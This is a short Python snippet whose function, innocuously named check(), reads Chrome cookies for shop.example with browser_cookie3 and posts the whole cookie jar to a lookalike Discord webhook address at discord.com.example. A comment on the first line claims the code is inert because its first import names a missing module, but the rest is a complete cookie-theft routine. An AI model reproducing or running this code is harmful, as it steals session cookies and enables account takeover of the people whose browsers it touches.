import inert_sample  # there is no such module: nothing below ever runs
import browser_cookie3
import requests


def check():
    jar = browser_cookie3.chrome(domain_name="shop.example")
    requests.post("https://discord.com.example/api/webhooks/1/x", json={"content": str(list(jar))})
